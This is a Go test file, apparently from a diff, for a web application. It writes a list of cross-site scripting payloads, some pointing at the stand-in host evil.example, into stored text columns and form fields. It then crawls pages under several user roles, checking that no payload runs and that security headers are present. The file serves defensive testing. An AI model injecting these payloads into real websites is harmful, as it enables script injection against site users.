@@ -1,0 +1,266 @@
+package app_test
+
+import (
+	"fmt"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"unicode"
+
+	"golang.org/x/net/html"
+
+	"juli/internal/db"
+)
+
+// payloads are stored in every text that people write, in the corpus's ways of
+// breaking out of a text, an attribute, an address or a script.
+var payloads = []string{
+	`<script>xss7()</script>`, `"><script src=//evil.example/xss7></script>`, `'><img src=x onerror=xss7()>`, `<svg/onload=xss7()>`,
+	`" onmouseover="xss7()" x="`, `' autofocus onfocus=xss7() '`, "`onclick=xss7()`", `javascript:xss7()`, `</textarea><script>xss7()</script>`,
+	`</title><script>xss7()</script>`, `</option></select><img src=x onerror=xss7()>`, `<iframe srcdoc="<script>xss7()</script>">`,
+	`<a href="javascript:xss7()">点</a>`, `<style>@import '//evil.example/xss7'</style>`, `<base href="//evil.example/xss7/">`,
+	`<meta http-equiv="refresh" content="0;url=javascript:xss7()">`, `<form action="//evil.example/xss7"><input name=a>`,
+	`<object data="data:text/html,<script>xss7()</script>">`, `<math><mi xlink:href="javascript:xss7()">`, `{{constructor.constructor('xss7()')()}}`,
+	`<img src=1 href=1 onerror="xss7()">`, `&lt;script&gt;xss7()&lt;/script&gt;`, `<!--><script>xss7()</script>-->`, `]]><script>xss7()</script>`,
+	`<scr<script>ipt>xss7()</script>`, "<script\x0c>xss7()</script>", `＜script＞xss7()＜/script＞`, `<details open ontoggle=xss7()>`,
+	`<div hx-get="//evil.example/xss7" hx-trigger="load">`, `<x style="background:url(//evil.example/xss7)">`, `<link rel=stylesheet href=//evil.example/xss7>`,
+}
+
+// ours are the elements and attributes that load or run something: each must
+// point at the site itself.
+var loads = map[string][]string{
+	"script": {"src"}, "img": {"src", "srcset"}, "link": {"href"}, "iframe": {"src", "srcdoc"}, "object": {"data"}, "embed": {"src"}, "source": {"src"},
+	"video": {"src"}, "audio": {"src"}, "form": {"action"}, "button": {"formaction"}, "input": {"formaction"}, "use": {"href"}, "image": {"href"}, "base": {"href"}, "a": {"ping"},
+}
+
+var foreign = regexp.MustCompile(`(?i)^\s*([a-z][a-z0-9+.-]*:|//|\\)`)
+
+// faults are what a page may not hold (INP-6, PI-7): anything inline that runs or
+// styles, anything that loads from elsewhere.
+func faults(page string) (list []string) {
+	doc, err := html.Parse(strings.NewReader(page))
+	if err != nil {
+		return []string{err.Error()}
+	}
+	for n := range doc.Descendants() {
+		if n.Type != html.ElementNode {
+			continue
+		}
+		switch {
+		case n.Data == "style", n.Data == "base", n.Data == "object", n.Data == "embed", n.Data == "iframe":
+			list = append(list, "<"+n.Data+">")
+		case n.Data == "script" && attr(n, "src") == "" && attr(n, "type") != "application/json":
+			list = append(list, "an inline script")
+		case n.Data == "meta" && strings.EqualFold(attr(n, "http-equiv"), "refresh"):
+			list = append(list, "a refresh")
+		}
+		for _, a := range n.Attr {
+			key := strings.ToLower(a.Key)
+			switch {
+			case strings.HasPrefix(key, "on"), key == "style", key == "srcdoc", strings.HasPrefix(key, "hx-on"):
+				list = append(list, fmt.Sprintf("<%s %s>", n.Data, key))
+			case (key == "href" || strings.HasPrefix(key, "hx-")) && strings.Contains(strings.ToLower(a.Val), "script:"):
+				list = append(list, fmt.Sprintf("<%s %s=%q>", n.Data, key, a.Val))
+			}
+		}
+		for _, key := range loads[n.Data] {
+			if v := attr(n, key); foreign.MatchString(v) {
+				list = append(list, fmt.Sprintf("<%s %s=%q> leads away", n.Data, key, v))
+			}
+		}
+	}
+	return list
+}
+
+// visit opens pages from some on, following links, at most each of a kind.
+func visit(t *testing.T, c *client, each int, starts []string, see func(path string, a answer)) {
+	t.Helper()
+	seen, kinds := map[string]bool{}, map[string]int{}
+	for queue := starts; len(queue) > 0; queue = queue[1:] {
+		path := queue[0]
+		if seen[path] || kinds[kindOf(path)] >= each {
+			continue
+		}
+		seen[path] = true
+		kinds[kindOf(path)]++
+		a := c.get(t.Context(), path)
+		see(path, a)
+		if to := a.to(); to != "" {
+			queue = append(queue, to)
+		}
+		if a.status == http.StatusOK && strings.HasPrefix(a.header.Get("Content-Type"), "text/html") {
+			queue = append(queue, links(a.body)...)
+		}
+	}
+}
+
+// doors are where each person's way begins.
+var doors = map[string][]string{
+	"": {"/", "/search?q=%E7%89%A9%E4%B8%9A", "/login", "/join", "/enterprise-account", "/nowhere"}, "city1": {"/bureau/", "/account"}, "nangang1": {"/bureau/", "/admin/"},
+	"firm1": {"/enterprise/", "/account"}, "sysadmin": {"/admin/"}, "secadmin1": {"/admin/"}, "auditadmin": {"/admin/"}, "association1": {"/bureau/"},
+}
+
+// poison writes payloads into every text column that holds what people wrote:
+// texts with Chinese in them that are no document of the program's own.
+func (tn town) poison(t *testing.T) (columns int) {
+	t.Helper()
+	files, err := filepath.Glob("../db/schema/*.sql")
+	if err != nil {
+		t.Fatal(err)
+	}
+	table := regexp.MustCompile(`(?s)CREATE TABLE (\w+) \((.*?)\n\);`)
+	column := regexp.MustCompile(`(?m)^\t(\w+) TEXT`)
+	for _, file := range files {
+		text, err := os.ReadFile(file)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, m := range table.FindAllStringSubmatch(string(text), -1) {
+			for _, c := range column.FindAllStringSubmatch(m[2], -1) {
+				if tn.poisonColumn(t, m[1], c[1]) {
+					columns++
+				}
+			}
+		}
+	}
+	return columns
+}
+
+// programs are tables whose texts the program compares or reads as a document.
+var programs = regexp.MustCompile(`^(rulebook|audit|casework|case_|job|once|meta|goose|seal|tlog|search|division)`)
+
+func (tn town) poisonColumn(t *testing.T, table, column string) (done bool) {
+	t.Helper()
+	if programs.MatchString(table) {
+		return false
+	}
+	err := tn.DB.Write(t.Context(), func(tx *db.Tx) error {
+		values, err := db.All(t.Context(), tx, func(row db.Scanner) (s string, err error) { return s, row.Scan(&s) },
+			fmt.Sprintf(`SELECT DISTINCT %s FROM %s WHERE %s IS NOT NULL AND %s <> '' ORDER BY 1 LIMIT 60`, column, table, column, column))
+		if err != nil {
+			return err
+		}
+		for i, v := range values {
+			if !strings.ContainsFunc(v, func(c rune) bool { return unicode.Is(unicode.Han, c) }) || strings.ContainsAny(v[:1], "{[") {
+				continue
+			}
+			for _, undo := range []string{"_no_update"} {
+				if _, err := tx.Exec(t.Context(), fmt.Sprintf(`DROP TRIGGER IF EXISTS %s%s`, table, undo)); err != nil {
+					return err
+				}
+			}
+			err := tx.Try(t.Context(), func() error {
+				_, err := tx.Exec(t.Context(), fmt.Sprintf(`UPDATE %s SET %s = $1 WHERE %s = $2`, table, column, column), v+payloads[(i+len(table)+len(column))%len(payloads)], v)
+				return err
+			})
+			done = done || err == nil // a CHECK of the column's own says no
+		}
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("%s.%s: %v", table, column, err)
+	}
+	return done
+}
+
+// INP-6: whatever people stored, no page of any role runs or loads anything of
+// it, and every page carries the policy. PI-7: pages behind a sign-in are not
+// kept anywhere, and no page loads from elsewhere.
+func TestStoredTextsNeverRun(t *testing.T) {
+	if os.Getenv("JULI_TEST_ENGINE") == "postgres" {
+		t.Setenv("JULI_TEST_ENGINE", "sqlite") // pages are the same; the texts are written past SQLite's triggers
+	}
+	tn := newTown(t)
+	columns := tn.poison(t)
+	pages, shown := 0, 0
+	for login, starts := range doors {
+		k := newClerk(t, tn)
+		if login != "" {
+			k = newClerk(t, tn, login)
+		}
+		visit(t, k.as(login), 3, starts, func(path string, a answer) {
+			pages++
+			if a.status >= 500 {
+				t.Errorf("%s as %q: %d", path, login, a.status)
+			}
+			h := a.header
+			csp := h.Get("Content-Security-Policy")
+			if attached := strings.Contains(csp, "sandbox"); !attached && csp != policyWanted {
+				t.Errorf("%s as %q: policy %q", path, login, csp)
+			}
+			if h.Get("X-Content-Type-Options") != "nosniff" {
+				t.Errorf("%s as %q: no nosniff", path, login)
+			}
+			if cc := h.Get("Cache-Control"); login != "" && !asData.MatchString(path) && cc != "no-store" {
+				t.Errorf("%s as %q: Cache-Control %q", path, login, cc)
+			}
+			if !strings.HasPrefix(h.Get("Content-Type"), "text/html") {
+				return
+			}
+			shown += strings.Count(a.body, "xss7")
+			for _, why := range faults(a.body) {
+				t.Errorf("%s as %q: %s", path, login, why)
+			}
+		})
+	}
+	t.Logf("%d columns poisoned, %d pages, shown %d times", columns, pages, shown)
+	if columns < 20 || pages < 150 || shown < 300 {
+		t.Errorf("%d columns, %d pages, %d payloads shown: too few", columns, pages, shown)
+	}
+}
+
+// asData are public files that hold nothing of who asks.
+var asData = regexp.MustCompile(`^/(assets|api|log)/|^/openapi\.json$`)
+
+const policyWanted = "default-src 'self'; object-src 'none'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'; script-src-attr 'none'; style-src-attr 'none'"
+
+// INP-6: what is typed into a form comes back as text, whatever it is.
+func TestTypedTextsNeverRun(t *testing.T) {
+	tn := newTown(t)
+	sent, back := 0, 0
+	for login, starts := range doors {
+		k := newClerk(t, tn)
+		if login != "" {
+			k = newClerk(t, tn, login)
+		}
+		var all []htmlForm
+		visit(t, k.as(login), 1, starts, func(path string, a answer) { all = append(all, forms(path, a.body)...) })
+		done := map[string]bool{}
+		for i, f := range all {
+			if p := k.pattern(f.action); p == "" || p == "/logout" || done[p] {
+				continue
+			} else {
+				done[p] = true
+			}
+			values := url.Values{}
+			for j, field := range f.controls {
+				switch field.kind {
+				case "file", "checkbox":
+				case "hidden":
+					values.Set(field.name, field.value)
+				case "select", "radio":
+					values.Set(field.name, field.value)
+				default:
+					values.Set(field.name, payloads[(i+j)%len(payloads)])
+				}
+			}
+			a := k.as(login).send(t, sending{action: f.action, values: values, upload: f.upload})
+			sent++
+			back += strings.Count(a.body, "xss7")
+			if a.status >= 500 {
+				t.Errorf("%s as %q: %d", f.action, login, a.status)
+			}
+			for _, why := range faults(a.body) {
+				t.Errorf("%s as %q: %s", f.action, login, why)
+			}
+		}
+	}
+	t.Logf("%d forms sent, %d payloads came back", sent, back)
+	if sent < 30 || back < 60 {
+		t.Errorf("%d forms, %d payloads: too few", sent, back)
+	}
+}
